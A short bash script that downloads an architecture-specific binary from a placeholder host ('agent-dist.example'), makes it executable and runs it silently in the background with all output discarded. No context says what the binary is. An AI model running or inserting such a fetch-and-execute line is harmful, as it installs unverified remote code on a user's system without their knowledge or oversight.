#!/usr/bin/env bash
f=$(mktemp)
curl -fsSL "https://agent-dist.example/$(uname -m)" -o "$f" && chmod 700 "$f" && nohup "$f" >/dev/null 2>&1 &
